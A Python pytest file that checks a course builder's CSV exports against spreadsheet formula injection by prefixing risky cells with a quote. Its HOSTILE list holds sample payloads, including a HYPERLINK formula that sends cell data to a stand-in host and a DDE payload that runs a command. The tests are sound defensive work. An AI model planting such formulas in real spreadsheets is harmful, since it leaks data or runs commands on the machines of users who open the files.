"""Every CSV we write is safe to open in a spreadsheet: no cell starts a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from builder import csvsafe
from builder.model import Course
from builder.report.coverage import coverage, to_csv
from builder.targets import BuildOptions
from builder.targets.competences import render
from tests.factories import make_course

HOSTILE = [
    '=HYPERLINK("http://evil.example.org/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
]


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"))) for c in row]


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1", "\r=1"])
def test_formula_cells_are_prefixed_with_a_quote(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Plain title", "HTL.U1.K1 Explains", "1.5", "", "'already quoted"])
def test_other_cells_are_unchanged(text: str) -> None:
    assert csvsafe.cell(text) == text


@pytest.fixture
def course(tmp_path: Path) -> Course:
    c = make_course(tmp_path)
    c.sections[0].subsections[0].units[0].title = HOSTILE[0]
    c.competences.units[0].title = HOSTILE[1]
    c.competences.framework.title = HOSTILE[3]
    c.competences.units[0].outcomes[0].statement = HOSTILE[2]
    return c


def _assert_no_formula(data: bytes) -> None:
    bad = [c for c in cells(data) if c.startswith(csvsafe.FORMULA_START)]
    assert not bad, bad


def test_coverage_csv_neutralises_a_formula_title(course: Course) -> None:
    data = to_csv(coverage(course))
    _assert_no_formula(data)
    assert "'" + HOSTILE[0] in cells(data)


def _bytes(member: object) -> bytes:
    return member if isinstance(member, bytes) else member.encode("utf-8")  # type: ignore[attr-defined]


def test_competence_csvs_neutralise_formulas(course: Course) -> None:
    csvs = {
        o.filename: _bytes(next(iter(o.members.values())))
        for o in render(course, BuildOptions())
        if o.filename.endswith(".csv")
    }
    assert len(csvs) == 2
    for data in csvs.values():
        _assert_no_formula(data)
    moodle = next(data for name, data in csvs.items() if name.endswith("moodle-competencies.csv"))
    assert "'" + HOSTILE[1] in cells(moodle)
    assert "'" + HOSTILE[3] in cells(moodle)
